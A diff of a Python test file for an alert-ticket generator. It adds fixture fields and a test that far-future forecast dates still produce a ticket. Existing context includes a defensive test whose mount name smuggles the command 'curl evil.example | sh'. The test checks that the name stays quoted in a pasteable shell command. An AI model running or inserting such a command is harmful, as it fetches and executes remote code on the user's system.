@@ -114,9 +114,10 @@ CASES = {
     ),
 }
 LATER = {
+    "first_seen": NOW - 26 * HOUR,
     "opened_at": NOW - DAY,
     "healthy_since": NOW - 2 * HOUR,
-    "closed_at": NOW - HOUR,
+    "closed_at": NOW - 0.5 * HOUR,
     "closed_by": "person",
     "opened": (NOW - 20 * DAY, NOW - 9 * DAY, NOW - DAY),
     "recurring": True,
@@ -372,6 +373,13 @@ def test_a_command_to_paste_holds_a_hostile_name_fast():
     """A mount that is named like a command stays one argument of the command an engineer may paste."""
     facts = msgspec.structs.replace(FILLING, subject={"mountpoint": "/x; curl evil.example | sh"})
     assert "du -xh --max-depth=2 '/x; curl evil.example | sh' | sort" in text_of(ticket(facts))
+
+
+def test_a_date_beyond_all_calendars_does_not_stop_a_ticket():
+    """A drift that ends in a million years, if ever, still makes a ticket for its earliest date."""
+    far = NOW + 365e6 * DAY
+    made = ticket(msgspec.structs.replace(FILLING, forecast=Forecast(NOW + 9 * DAY, far, far)))
+    assert "Latest (P90): may never happen" in text_of(made)
 
 
 def test_what_could_not_be_seen_is_said():
